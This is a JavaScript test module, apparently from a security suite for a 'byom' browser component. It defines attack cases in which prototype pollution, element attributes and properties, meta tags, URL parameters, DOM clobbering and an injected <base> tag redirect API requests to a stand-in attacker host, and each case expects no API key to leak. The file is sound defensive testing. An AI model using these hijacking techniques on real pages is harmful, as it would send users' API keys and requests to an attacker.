/** Numbers 8 to 10: everything that could be taken for configuration, by pollution, markup, properties and addresses. */
import { configured, plain, redirecting } from '../setups.mjs';

const ALL = ['early', 'mid', 'late'];

export const CONFIGURATION = [
  {
    number: 8,
    id: 'polluted-addresses',
    name: 'Object.prototype.baseUrl, url, endpoint, provider … name the attacker’s host',
    moments: ALL,
    expected: 'no-key',
    alone: true,
    attack(t) {
      for (const name of ['baseUrl', 'baseURL', 'url', 'endpoint', 'workerUrl', 'base', 'api', 'host'])
        Object.defineProperty(Object.prototype, name, {
          configurable: true,
          writable: true,
          value: `${t.evil}/api/v1`,
        });
    },
  },
  {
    number: 8,
    id: 'polluted-options',
    name: 'Object.prototype.redirect, mode, credentials, referrerPolicy …: the options of every request',
    moments: ALL,
    expected: 'no-key',
    alone: true,
    setup: redirecting,
    attack() {
      const options = {
        redirect: 'follow',
        mode: 'cors',
        referrerPolicy: 'unsafe-url',
        cache: 'force-cache',
        keepalive: true,
        signal: undefined,
      };
      for (const [name, value] of Object.entries(options))
        Object.defineProperty(Object.prototype, name, { configurable: true, writable: true, value });
    },
  },
  {
    number: 9,
    id: 'attributes',
    name: 'attributes base-url, endpoint, provider, worker-url, src on every element of ours',
    moments: ALL,
    expected: 'no-key',
    setup: configured,
    attack(t) {
      const set = () => {
        for (const element of document.querySelectorAll(
          'byom-connect, byom-budget, byom-cost, byom-panel, [data-byom-stage]',
        ))
          for (const name of ['base-url', 'baseUrl', 'endpoint', 'provider', 'worker-url', 'src', 'api', 'url'])
            element.setAttribute(name, `${t.evil}/api/v1`);
      };
      set();
      setInterval(set, 200);
    },
  },
  {
    number: 9,
    id: 'properties',
    name: 'properties baseUrl, endpoint, fetch … on elements, on the handle and on its prototype',
    moments: ALL,
    expected: 'no-key',
    setup: configured,
    attack(t) {
      const set = () => {
        for (const owner of [globalThis.byom, globalThis.byom?.state, ...document.querySelectorAll('byom-connect')])
          for (const name of ['baseUrl', 'baseURL', 'endpoint', 'provider', 'workerUrl', 'src', 'fetch'])
            try {
              owner[name] =
                name === 'fetch'
                  ? (url, init) => fetch(`${t.evil}/called`, { ...init, body: null })
                  : `${t.evil}/api/v1`;
            } catch {
              // Frozen.
            }
      };
      set();
      setInterval(set, 200);
    },
  },
  {
    number: 9,
    id: 'meta',
    name: 'the provider’s meta tag is changed, and a second one put before it',
    moments: ALL,
    // Before our script it is simply the page's own word.
    lost: ['early'],
    swept: false,
    expected: 'no-key',
    alone: true,
    setup: { ...plain, name: 'other-provider', patience: 4000 },
    attack(t) {
      const meta = document.querySelector('meta[name="byom-provider"]');
      const before = meta.cloneNode();
      for (const each of [meta, before]) each.content = `${t.evil}/api/v1`;
      meta.before(before);
    },
  },
  {
    number: 9,
    id: 'address-bar',
    name: 'the page’s own address: ?base=, ?provider=, #endpoint=',
    moments: ALL,
    expected: 'no-key',
    setup: configured,
    attack(t) {
      const evil = encodeURIComponent(`${t.evil}/api/v1`);
      history.replaceState(null, '', `/?base=${evil}&provider=${evil}&byom-provider=${evil}#endpoint=${evil}`);
    },
  },
  {
    number: 10,
    id: 'clobbering',
    name: 'elements named as configuration, as globals and as methods of the document',
    moments: ALL,
    expected: 'no-key',
    alone: true,
    setup: { ...plain, name: 'clobbered', patience: 4000 },
    attack(t) {
      const place = document.body ?? document.documentElement;
      for (const name of [
        'byomConfig',
        'byom',
        'config',
        'provider',
        'byom-provider',
        'trustedTypes',
        'fetch',
        'vault',
      ]) {
        const link = document.createElement('a');
        link.id = name;
        link.href = `${t.evil}/api/v1`;
        place.append(link);
      }
      for (const name of ['currentScript', 'baseURI', 'documentElement', 'defaultView', 'cookie']) {
        const form = document.createElement('form');
        form.setAttribute('name', name);
        form.action = `${t.evil}/api/v1`;
        place.append(form);
      }
    },
  },
  {
    number: 10,
    id: 'base',
    name: 'a <base> that leads to the attacker’s host',
    moments: ALL,
    expected: 'no-key',
    alone: true,
    setup: { ...plain, name: 'based', patience: 4000 },
    attack(t) {
      const base = document.createElement('base');
      base.href = `${t.evil}/`;
      document.head.prepend(base);
    },
  },
];
